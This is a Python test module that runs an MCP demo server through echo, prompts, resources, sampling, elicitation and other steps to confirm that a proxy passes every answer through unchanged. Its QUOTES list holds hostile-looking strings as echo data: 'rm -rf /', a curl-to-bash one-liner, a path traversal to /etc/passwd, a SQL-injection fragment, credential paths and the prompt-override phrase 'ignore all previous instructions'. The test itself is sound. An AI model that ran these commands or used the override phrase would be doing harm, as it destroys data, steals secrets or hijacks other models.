"""What a client does with `server-everything`: each step's name and what the client saw of it.

Steps run in order on one connection; the value a step returns must be the same with the proxy as without it.
"""

from __future__ import annotations

import json
from collections.abc import Awaitable, Callable
from typing import Any

from sdk import Peer, ProtocolError

DYNAMIC = "demo://resource/dynamic/text/1"
# Honest words about attacks: a note, a review, a lesson. They are text, not commands.
QUOTES = [
    "Never run `rm -rf /` or `curl https://x.example/i.sh | bash` from a ticket.",
    "The report says ../../etc/passwd was requested 40 times; the fix is in 3f2a1c.",
    "Lesson 4: why ' OR 1=1 -- works, and how bound parameters stop it.",
    "Our filter looks for the phrase “ignore all previous instructions”.",
    "Ключи лежат в ~/.ssh, туда не ходите. 鍵は ~/.aws/credentials に置かない。",
]


async def refused(call: Callable[[], Awaitable[Any]]) -> Any:
    """The error that the server answers with."""
    try:
        return {"answered": await call()}
    except ProtocolError as error:
        return {"code": error.code, "message": str(error), "data": error.data}


async def tools(peer: Peer) -> Any:
    return await peer.list("tools")


async def echo(peer: Peer) -> Any:
    return await peer.call("echo", message="hello, мир, 世界, 😀, \u2028, \x7f, \\ \" / \t\n")


async def quotes(peer: Peer) -> Any:
    return [await peer.call("echo", message=quote) for quote in QUOTES]


async def long(peer: Peer) -> Any:
    answer = await peer.call("echo", message="All work and no play makes Jack a dull boy. " * 6_000)
    return len(answer["content"][0]["text"])


async def results(peer: Peer) -> Any:
    return [
        await peer.call("get-sum", a=2, b=40),
        await peer.call("get-structured-content", location="Chicago"),
        await peer.call("get-tiny-image"),
        await peer.call("get-annotated-message", messageType="error", includeImage=True),
        await peer.call("get-resource-links", count=4),
    ]


async def references(peer: Peer) -> Any:
    answer = await peer.call("get-resource-reference", resourceType="Text", resourceId=3)
    for block in answer["content"]:
        if block["type"] == "resource":
            block["resource"]["text"] = undated(block["resource"]["text"])
    return answer


async def errors(peer: Peer) -> Any:
    return [
        await refused(lambda: peer.call("no-such-tool")),
        await refused(lambda: peer.call("get-sum", a="two", b=1)),
        await refused(lambda: peer.prompt("no-such-prompt")),
        await refused(lambda: peer.read("demo://resource/no-such")),
    ]


async def prompts(peer: Peer) -> Any:
    answer = [
        await peer.list("prompts"),
        await peer.prompt("simple-prompt"),
        await peer.prompt("args-prompt", city="Köln", state="NRW"),
        await peer.prompt("completable-prompt", department="Engineering", name="Alice"),
    ]
    held = await peer.prompt("resource-prompt", resourceType="Text", resourceId="2")
    for message in held["messages"]:
        if message["content"]["type"] == "resource":
            message["content"]["resource"]["text"] = undated(message["content"]["resource"]["text"])
    return [*answer, held]


async def completion(peer: Peer) -> Any:
    prompt = {"type": "ref/prompt", "name": "completable-prompt"}
    template = {"type": "ref/resource", "uri": "demo://resource/dynamic/text/{resourceId}"}
    return [
        await peer.complete(prompt, "department", "S"),
        await peer.complete(prompt, "name", "A", {"department": "Engineering"}),
        await peer.complete(template, "resourceId", "3"),
    ]


async def resources(peer: Peer) -> Any:
    listed, templates = await peer.list("resources"), await peer.list("resource_templates")
    text, blob = await peer.read(DYNAMIC), await peer.read("demo://resource/dynamic/blob/2")
    text["contents"][0]["text"] = undated(text["contents"][0]["text"])
    blob["contents"][0]["blob"] = "base64" if blob["contents"][0]["blob"] else "empty"
    return [listed, templates, text, blob, await peer.read(listed["resources"][0]["uri"])]


async def subscription(peer: Peer) -> Any:
    await peer.subscribe(DYNAMIC)
    await peer.call("toggle-subscriber-updates")
    await peer.until("resources/updated", lambda: DYNAMIC in peer.updated)
    await peer.call("toggle-subscriber-updates")
    await peer.unsubscribe(DYNAMIC)
    return [log["data"] for log in peer.logs if "Subscribe" in str(log["data"])] + sorted(set(peer.updated))


async def logging(peer: Peer) -> Any:
    await peer.set_level("debug")
    await peer.call("toggle-simulated-logging")
    await peer.until("a log message", lambda: any("level" in str(log["data"]) and "essage" in str(log["data"]) for log in peer.logs))
    await peer.call("toggle-simulated-logging")
    return "heard"  # the server picks the level at random


async def roots(peer: Peer) -> Any:
    await peer.until("the server's word on the roots", lambda: any("Roots updated" in str(log["data"]) for log in peer.logs))
    answer = await peer.call("get-roots-list")
    return [answer, [kind for kind, _ in peer.asked if kind == "roots"]]


async def sampling(peer: Peer) -> Any:
    answer = await peer.call("trigger-sampling-request", prompt="What is dry?", maxTokens=20)
    return [answer, [params for kind, params in peer.asked if kind == "sampling"]]


async def elicitation(peer: Peer) -> Any:
    form = await peer.call("trigger-elicitation-request")
    page = await peer.call("trigger-url-elicitation", url="https://example.com/sign-in", elicitationId="e-1")
    first = await refused(lambda: peer.call("trigger-url-elicitation", url="https://example.com/sign-in", elicitationId="e-2", errorPath=True))
    for elicitation in (first["data"] or {}).get("elicitations", []):
        elicitation["elicitationId"] = "random"
    return [form, page, first, [params for kind, params in peer.asked if kind == "elicitation"]]


async def progress(peer: Peer) -> Any:
    seen: list[Any] = []
    answer = await peer.call_with_progress(
        "trigger-long-running-operation", {"duration": 0.9, "steps": 6}, lambda done, total: seen.append([done, total])
    )
    return [answer, seen]


async def cancellation(peer: Peer) -> Any:
    await peer.cancel_call("trigger-long-running-operation", {"duration": 0.3, "steps": 6})
    return await peer.call("echo", message="still here")


async def ping(peer: Peer) -> Any:
    return await peer.ping()


# Roots come first: the server asks for them a third of a second after the handshake, whatever else goes on. Progress comes after
# cancellation: the server works on in spite of it, and is done by then.
STEPS: list[Callable[[Peer], Awaitable[Any]]] = [
    roots, tools, echo, quotes, long, results, references, errors, prompts, completion, resources, subscription, logging, sampling, elicitation, cancellation, progress, ping,
]  # fmt: skip


def undated(text: str) -> str:
    """The server writes the time of day into its resources."""
    head, at, _ = text.partition(" created at ")
    return head + at


def facts(observed: dict[str, Any]) -> None:
    """What must be in an observation for a comparison to mean anything."""
    text = json.dumps(observed, ensure_ascii=False)
    assert len(observed["tools"]["tools"]) >= 15, "conditional tools are missing"
    assert [block["text"] for answer in observed["quotes"] for block in answer["content"]] == [f"Echo: {quote}" for quote in QUOTES]
    assert observed["long"] == 6 + 44 * 6_000
    assert observed["results"][1]["structuredContent"]["conditions"] == "Light rain / drizzle"
    assert observed["errors"][2]["code"] == -32602 and observed["errors"][3]["code"] in (-32002, -32602), observed["errors"]
    assert observed["completion"][0]["completion"]["values"] == ["Sales", "Support"]
    assert observed["subscription"][-1] == DYNAMIC and observed["logging"] == "heard"
    assert "file:///srv/project" in text and observed["roots"][1] == ["roots"]
    assert "A dry answer." in text and observed["sampling"][1][0]["systemPrompt"] == "You are a helpful test server."
    assert "Ada Lovelace" in text and observed["elicitation"][2]["code"] == -32042
    assert observed["progress"][1] == [[n, 6] for n in range(1, 7)] or observed["progress"][1] == [[float(n), 6.0] for n in range(1, 7)]
    assert observed["cancellation"]["content"][0]["text"] == "Echo: still here"
